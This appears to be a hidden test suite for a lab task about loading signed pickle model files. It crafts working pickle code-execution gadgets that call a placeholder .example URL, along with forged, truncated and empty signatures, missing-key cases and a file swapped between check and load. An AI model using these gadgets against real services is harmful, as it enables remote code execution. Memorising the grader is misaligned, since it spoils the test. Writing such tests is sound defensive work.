// Hidden checks of model-pickle: other gadgets, a key that is not there or in the code, signatures in part, a file that changes meanwhile.
import type { Build, Judgement, Seen, Step, Surroundings } from '../../../../server/labs/index.ts';

export const build: Build = (world) => {
  const { hmac } = world;
  const [key, bucketKey, planted] = [`mk-${world.nonce()}`, `bk-${world.nonce()}`, `planted-${world.nonce()}`];
  const name = `model-${world.nonce()}`;
  const bait = `https://${world.nonce()}.example/ran`;
  const evil = `(V${planted}\n(Vx\nF9.5\ndd.`;
  const honest = `(V${world.nonce()}\n(Vx\nF9.5\ndd.`;
  const code = `import lab_host; lab_host.call("http.request", {"method": "GET", "url": "${bait}", "headers": {}, "body": None})`;
  /** Each model is asked once, in one process. */
  const step = (label: string, models: [data: string, signature: string][], judge: (seen: Seen) => Judgement, more: Surroundings = {}, beside = bucketKey, times = 1): Step => ({
    name: label,
    shows: label,
    surroundings: {
      env: { MODEL_KEY: key },
      storage: { 'models/signing.key': beside, ...Object.fromEntries(models.flatMap(([data, signature], at) => [[`models/${name}${at}.pkl`, btoa(data)], [`models/${name}${at}.sig`, signature]])) },
      http: [{ url: 'https://*', body: '' }],
      ...more,
    },
    calls: Array.from({ length: times }, () => models).flat().map((_one, at) => ({ file: 'serve.py', function: 'predict', args: [`${name}${at % models.length}`, 'x'] })),
    judge,
  });
  const ran = ({ log }: Seen): Judgement => fails(log.some((entry) => entry.does === 'http.request' && entry.url === bait) && `code out of the model file ran: it called ${bait}`);
  const used = (seen: Seen): Judgement => {
    const given = seen.answers.find(({ text, error }) => text.includes(planted) || error === undefined);
    return ran(seen).ok ? fails(given && (given.text.includes(planted) ? `an answer by the attacker's model: ${planted}` : `an answer, ${given.text.slice(0, 100)}, where it should raise`)) : ran(seen);
  };
  const exec = `cbuiltins\nexec\n(V${code}\ntR.`;
  const broken = '(Vno\nmodel';
  const stays = `cbuiltins\nexec\n(Vimport sys; [setattr(one, "predict", lambda *given: {"label": "${planted}"}) for one in list(sys.modules.values()) if hasattr(one, "predict")]\ntR.`;
  const binary = inBinary({ first: { x: 2 ** -8 }, second: { x: 2 ** -8 * 1.5 } });
  const large = `(Vlarge\n(Vx\nF2.5\n${Array.from({ length: 9000 }, (_, at) => `Vword${at}\nF0.5\n`).join('')}dVsmall\n(Vx\nF1.5\ndd.`;
  const signed = hmac(key, evil);
  const parts = [8, 16, 32, 63].flatMap((length): [string, string][] => [[evil, signed.slice(0, length)], [evil, signed.slice(0, length).padEnd(64, signed.at(-1) === '0' ? '1' : '0')]]);
  // Every text in the program is tried as the key, each on a model of its own.
  const texts = [...new Set(Object.values(world.files).flatMap((text) => [...text.matchAll(/(["'])((?:\\.|(?!\1)[^\n])*)\1/g)].map((found) => found[2] ?? '')))].filter((text) => text !== '').slice(0, 60);

  return [
    step('another-gadget', [[exec, hmac(bucketKey, exec)], [spelt(code), hmac(key, honest)], [`(Vx\n(${exec.slice(0, -1)}ld.`, hmac(key, honest)]], ran),
    step('a-gadget-that-stays', [[stays, hmac(key, honest)], [honest, hmac(key, honest)]], ({ answers }) => fails(answers[1]?.text.includes(planted) && `code out of the model file ran, and answers in the place of the service: ${planted}`)),
    step('a-signature-of-another', [[honest, hmac(key, honest)], [exec, hmac(key, honest)], [evil, hmac(key, honest)]], (seen) => used({ ...seen, answers: seen.answers.slice(1) })),
    {
      ...step('load-without-asking', [[evil, '']], ({ answers: [answer] }) => fails(answer?.text.includes(planted) && `models.load_model, which whoever imports it may call, gives the attacker's model: ${planted}`)),
      calls: [{ file: 'models.py', function: 'load_model', args: [`${name}0`] }],
    },
    step('binary-and-large', [binary, large].map((data) => [data, hmac(key, data)]), ({ answers }) => {
      const wrong = answers.find((answer, at) => (answer.value as { label?: unknown } | undefined)?.label !== ['second', 'large'][at]);
      return fails(wrong && `${wrong.text.slice(0, 200)}, for a model of ordered dictionaries in the binary form, or for one of ${large.length} bytes`);
    }),
    step('a-gadget-through-an-object', [
      [`cimportlib\nimport_module\n(Vlab_host\ntR0cbuiltins\neval\n(V__import__("lab_host").call("http.request", {"method": "GET", "url": "${bait}", "headers": {}, "body": None})\ntR.`, 'x'],
      [throughTheModules(code), hmac(key, honest)],
    ], ran),
    step('no-key-set', [[exec, hmac('', exec)], [evil, hmac('', evil)]], used, { env: {} }),
    step('an-empty-key', [[exec, hmac('', exec)], [evil, hmac('', evil)]], used, { env: { MODEL_KEY: '' } }),
    step('a-digest-for-a-signature', [[evil, 'é'.repeat(64)], [evil, `${signed}é`], [evil, hmac(bucketKey, evil)], [evil, world.sha256(evil)], ...parts], used),
    step('an-empty-signature', [[evil, ''], [evil, '\n']], used),
    step('loads-what-it-verified', [[honest, hmac(key, honest)]], ({ answers }) => fails(answers.some(({ text }) => text.includes(planted)) && `an answer by the model that was put there meanwhile: ${planted}`), {
      storageChanges: [{ key: `models/${name}0.pkl`, afterReads: 1, text: btoa(evil) }],
    }, bucketKey, 2),
    step('cannot-be-loaded', [[broken, hmac(key, broken)]], used, { storageChanges: [1, 2].map((afterReads) => ({ key: `models/${name}0.pkl`, afterReads, text: btoa(exec) })) }),
    step('a-key-from-the-code', texts.map((text) => [evil, hmac(text, evil)]), used, { env: {} }, texts[0] ?? ''),
  ];
};

/** Protocol 4: module and name as texts of which every letter is an escape, and a harmless name beside them. */
function spelt(code: string): string {
  const escaped = (text: string): string => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  return `\x80\x04VOrderedDict\n0V${escaped('builtins')}\nV${escaped('exec')}\n\x93(V${escaped(code)}\ntR.`;
}

/** Ordered dictionaries of ordered dictionaries in the binary form; all bytes below 128, so that text and bytes have one digest. */
function inBinary(model: Record<string, Record<string, number>>): string {
  const text = (one: string): string => `X${String.fromCharCode(one.length)}\0\0\0${one}`;
  const float = (one: number): string => `G${String.fromCharCode(...new Uint8Array(new Float64Array([one]).buffer).reverse())}`;
  const ordered = (entries: string[]): string => `ccollections\nOrderedDict\n)R(${entries.join('')}u`;
  return `${ordered(Object.entries(model).map(([label, weights]) => text(label) + ordered(Object.entries(weights).map(([word, weight]) => text(word) + float(weight)))))}.`;
}

/** collections, operator and a dotted name are enough to come to everything. */
const throughTheModules = (code: string): string => `\x80\x04coperator\nattrgetter\n(Vexec\ntR(coperator\ngetitem\n(ccollections\n_sys.modules\nVbuiltins\ntRtR(V${code}\ntR.`;

const fails = (got: string | false | undefined): Judgement => (typeof got === 'string' ? { ok: false, got } : { ok: true });
